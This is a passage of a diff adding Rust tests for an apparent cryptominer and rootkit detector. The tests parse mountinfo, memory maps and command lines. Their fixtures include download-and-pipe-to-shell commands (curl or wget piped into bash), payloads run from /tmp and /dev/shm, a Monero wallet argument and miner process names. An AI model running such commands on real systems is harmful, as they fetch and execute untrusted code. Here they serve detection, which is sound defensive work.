+                93 27 0:50 / /proc/sys/fs/binfmt_misc rw - binfmt_misc binfmt_misc rw\n";
+    let (mounts, hidepid, covered) = parse_mountinfo(text, "/proc");
+    assert_eq!(mounts, ["/proc/4242", "/proc/77/cmdline"]);
+    assert_eq!(hidepid.as_deref(), Some("invisible"));
+    assert_eq!(covered, None);
+    let over = format!("{text}94 27 0:60 / /proc rw - tmpfs tmpfs rw\n");
+    assert_eq!(parse_mountinfo(&over, "/proc").2.as_deref(), Some("tmpfs"));
+    assert_eq!(unescape_mount("/mnt/my\\040disk"), "/mnt/my disk");
+}
+
+#[test]
+fn judges_our_own_libraries() {
+    let maps = "55d0-55e0 r-xp 00000000 fe:01 12 /usr/bin/minerwatch\n\
+                7f00-7f10 r-xp 00000000 fe:01 13 /usr/lib/x86_64-linux-gnu/libc.so.6\n\
+                7f10-7f20 r--p 00000000 fe:01 14 /usr/lib/locale/locale-archive\n\
+                7f20-7f30 r-xp 00000000 fe:01 15 /usr/lib/x86_64-linux-gnu/libgcc_s.so.1\n\
+                7f30-7f40 r-xp 00000000 fe:01 16 /usr/local/lib/libprocesshider.so\n\
+                7f40-7f50 r-xp 00000000 fe:01 17 /usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n\
+                7f50-7f60 r-xp 00000000 fe:01 18 /usr/lib/x86_64-linux-gnu/libevil.so\n\
+                7f60-7f70 r-xp 00000000 fe:01 19 /usr/lib/x86_64-linux-gnu/gconv/UTF-16.so\n\
+                7f70-7f80 r-xp 00000000 fe:01 20 /usr/lib/x86_64-linux-gnu/libm.so.6 (deleted)\n\
+                7f80-7f90 r-xp 00000000 00:00 0 [vdso]\n\
+                7f90-7fa0 rwxp 00000000 00:01 21 /memfd:x (deleted)\n";
+    let got = preloaded_from_maps(
+        maps,
+        Some("/usr/bin/minerwatch"),
+        &["libjemalloc.so.2".into()],
+        &[],
+    );
+    assert_eq!(
+        got,
+        [
+            "/usr/local/lib/libprocesshider.so",
+            "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
+            "/usr/lib/x86_64-linux-gnu/libevil.so",
+            "/memfd:x (deleted)",
+        ]
+    );
+}
+
+#[test]
+fn parses_commands() {
+    let cases: &[(&str, &[&str])] = &[
+        ("nohup /tmp/x >/dev/null 2>&1 &", &["/tmp/x", "1"][..1]),
+        (
+            "sudo -u www-data nice -n 19 /dev/shm/a -c x",
+            &["/dev/shm/a"],
+        ),
+        ("/bin/sh -c 'cd /var/tmp && ./.m -B'", &["/var/tmp/.m"]),
+        ("bash /root/.x/run.sh", &["/root/.x/run.sh"]),
+        ("python3 -c 'import os'", &["python3"]),
+        (
+            "FOO=1 env BAR=2 timeout 10 /usr/bin/true; exit 0",
+            &["/usr/bin/true", "exit"],
+        ),
+        (
+            "(curl -s http://a || wget -qO- http://a) | bash",
+            &["curl", "wget", "bash"],
+        ),
+    ];
+    for (cmd, want) in cases {
+        assert_eq!(programs(cmd), *want, "{cmd}");
+    }
+    assert_eq!(
+        analyze_command("sh -c \"$(curl -fsSL http://x/i.sh)\"", "").0,
+        ["downloads and pipes into a shell"]
+    );
+    assert_eq!(
+        analyze_command("bash <(wget -qO- http://x)", "").0,
+        ["downloads and pipes into a shell"]
+    );
+    assert_eq!(
+        miner_names_in("/opt/xmrig-6.21/xmrig systemd-sysupdate KINSING .kdevtmpfsi"),
+        ["xmrig", "kinsing", "kdevtmpfsi"]
+    );
+    assert!(
+        analyze_command("curl -o /tmp/f http://host:8080/f -u u:p", "curl -o /tmp/f")
+            .0
+            .is_empty()
+    );
+    let wallet = format!("-u 4{}", "A".repeat(94));
+    assert!(has(
+        &analyze_command(&wallet, "").0,
+        "has a Monero wallet address"
+    ));
+    assert_eq!(
+        resolve_link("etc/sysctl.d/99-sysctl.conf", "../sysctl.conf"),
+        "/etc/sysctl.conf"
+    );
+    assert_eq!(resolve_link("etc/x/y", "/usr/lib/z"), "/usr/lib/z");
+    assert_eq!(
+        cap_text(&format!("a\x1b[2Jb{}", "x".repeat(400)))
+            .chars()
+            .count(),
+        300
+    );
+    assert!(cap_text("a\x1b[2J").starts_with("a\u{FFFD}"));
+}
